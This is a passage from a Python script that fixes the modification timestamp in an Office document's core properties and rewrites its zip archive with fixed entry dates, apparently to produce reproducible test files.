    parts[core] = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>2026-07-01T00:00:00Z", parts[core])
    with zipfile.ZipFile(path, "w") as frozen:
        for name, content in parts.items():
            entry = zipfile.ZipInfo(name, date_time=(2026, 7, 1, 0, 0, 0))
            entry.create_system = 0
            frozen.writestr(entry, content, zipfile.ZIP_DEFLATED, 9)


if __name__ == "__main__":
    make(Path(__file__).parent)
